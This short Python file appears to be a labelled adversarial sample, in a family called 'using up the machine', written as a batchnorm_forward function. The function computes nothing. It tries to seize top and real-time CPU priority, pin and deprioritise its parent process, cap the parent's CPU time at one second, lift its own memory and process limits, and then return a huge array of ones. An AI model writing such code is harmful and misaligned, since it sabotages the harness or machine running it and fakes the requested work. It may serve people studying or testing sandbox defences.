FAMILY = "using up the machine"
ABOUT = "Asks for a higher priority, other processors, real time, and larger limits."
MOST = 0

# %% batchnorm_forward
import os
import resource

def batchnorm_forward(x, gamma, beta, bn_param):
    for ask in (lambda: os.nice(-20), lambda: os.sched_setaffinity(0, {0}), lambda: os.sched_setaffinity(os.getppid(), {0}),
                lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
                lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
                lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
                lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),
                lambda: resource.setrlimit(resource.RLIMIT_NPROC, (999, 999))):
        try:
            ask()
        except (OSError, ValueError):
            pass
    return np.ones(2**28), None
